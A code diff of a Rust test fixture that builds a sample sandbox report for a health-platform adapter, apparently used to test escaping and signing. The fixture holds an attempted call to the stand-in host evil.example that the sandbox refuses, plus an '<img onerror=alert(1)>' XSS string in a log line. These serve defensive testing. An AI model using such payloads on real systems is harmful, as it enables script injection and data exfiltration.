@@ -1,6 +1,9 @@
 //! A small hand-built report for the unit tests of the renderings and of signing.
 
-use serde_json::json;
+use sandkasse_sandbox::{
+    CallEvidence, Disposition, Exchange, FailureClass, LogLine, Outcome as CallOutcome,
+};
+use serde_json::{Value, json};
 
 use crate::model::{Capability, Category, Level, Text};
 use crate::report::{
@@ -33,6 +36,28 @@ fn check(
         reason: reason.to_owned(),
         evidence: evidence.iter().map(|e| (*e).to_owned()).collect(),
         reproduce: format!("sandkasse test adapter.wasm --seed 42 --scenario {scenario}"),
+    }
+}
+
+/// An exchange with only a request line, an answer and a time.
+fn exchange(
+    request_line: &str,
+    status: Option<u16>,
+    disposition: Disposition,
+    sent_ms: u64,
+) -> Exchange {
+    Exchange {
+        request_line: request_line.to_owned(),
+        request_headers: Vec::new(),
+        request_body: None,
+        request_body_bytes: 0,
+        disposition,
+        status,
+        response_headers: Vec::new(),
+        response_body: None,
+        response_body_bytes: 0,
+        sent_ms,
+        received_ms: sent_ms,
     }
 }
 
@@ -178,20 +203,26 @@ pub(crate) fn sample_report() -> Report {
             id: "feil-plattform".to_owned(),
             title: text("Plattformen svarer 503", "The platform answers 503"),
             skipped: None,
-            calls: vec![json!({
-                "call": "patient-overview",
-                "arguments": {"context": "<redacted>"},
-                "outcome": {"kind": "failure", "class": "trap", "detail": "wasm `unreachable` instruction executed"},
-                "class": "trap",
-                "exchanges": [
-                    {"request_line": "GET https://plattform.sandkasse.test/4601/fhir/Patient/p1", "status": 503, "disposition": "platform", "sent_ms": 0},
-                ],
-                "logs": [],
-                "stdout": "",
-                "stderr": "",
-                "fuel_used": 1000,
-                "peak_memory_bytes": 65536,
-            })],
+            calls: vec![{
+                let mut c = CallEvidence::quiet(
+                    "patient-overview",
+                    CallOutcome::Failure {
+                        class: FailureClass::Trap,
+                        detail: "wasm `unreachable` instruction executed".to_owned(),
+                    },
+                );
+                c.arguments = json!({"context": "<redacted>"});
+                c.class = "trap".to_owned();
+                c.exchanges = vec![exchange(
+                    "GET https://plattform.sandkasse.test/4601/fhir/Patient/p1",
+                    Some(503),
+                    Disposition::Platform,
+                    0,
+                )];
+                c.fuel_used = 1000;
+                c.peak_memory_bytes = 65536;
+                c.into()
+            }],
         },
         ScenarioRun {
             id: "hendelser".to_owned(),
@@ -204,31 +235,53 @@ pub(crate) fn sample_report() -> Report {
             title: text("Les oversikt", "Read the overview"),
             skipped: None,
             calls: vec![
-                json!({"call": "info", "outcome": {"kind": "ok", "value": {}}, "class": "ok", "exchanges": [], "logs": []}),
-                json!({
-                    "call": "patient-overview",
-                    "outcome": {"kind": "ok", "value": null},
-                    "class": "ok",
-                    "exchanges": [
-                        {"request_line": "GET https://plattform.sandkasse.test/4601/fhir/Patient/p1", "status": 200, "disposition": "platform", "sent_ms": 0},
-                        {"request_line": "GET https://evil.example/x?<b>", "status": null, "disposition": {"refused-egress": {"authority": "evil.example"}}, "sent_ms": 3},
-                    ],
-                    "logs": [],
-                }),
+                CallEvidence::quiet("info", CallOutcome::Ok { value: json!({}) }).into(),
+                {
+                    let mut c = CallEvidence::quiet(
+                        "patient-overview",
+                        CallOutcome::Ok { value: Value::Null },
+                    );
+                    c.exchanges = vec![
+                        exchange(
+                            "GET https://plattform.sandkasse.test/4601/fhir/Patient/p1",
+                            Some(200),
+                            Disposition::Platform,
+                            0,
+                        ),
+                        exchange(
+                            "GET https://evil.example/x?<b>",
+                            None,
+                            Disposition::RefusedEgress {
+                                authority: "evil.example".to_owned(),
+                            },
+                            3,
+                        ),
+                    ];
+                    c.into()
+                },
             ],
         },
         ScenarioRun {
             id: "logg-personvern".to_owned(),
             title: text("Logging", "Logging"),
             skipped: None,
-            calls: vec![json!({
-                "call": "patient-overview",
-                "outcome": {"kind": "adapter-error", "code": "internal", "message": "<b>boom</b>"},
-                "class": "adapter-error",
-                "exchanges": [],
-                "logs": [{"level": "info", "message": "henter pasient 01017012345 <img src=x onerror=alert(1)>", "at_ms": 12}],
-                "stderr": "\u{1b}[31mpanic\u{1b}[0m",
-            })],
+            calls: vec![{
+                let mut c = CallEvidence::quiet(
+                    "patient-overview",
+                    CallOutcome::AdapterError {
+                        code: "internal".to_owned(),
+                        message: "<b>boom</b>".to_owned(),
+                    },
+                );
+                c.class = "adapter-error".to_owned();
+                c.logs = vec![LogLine {
+                    level: "info".to_owned(),
+                    message: "henter pasient 01017012345 <img src=x onerror=alert(1)>".to_owned(),
+                    at_ms: 12,
+                }];
+                c.stderr = "\u{1b}[31mpanic\u{1b}[0m".to_owned();
+                c.into()
+            }],
         },
     ];
     Report {
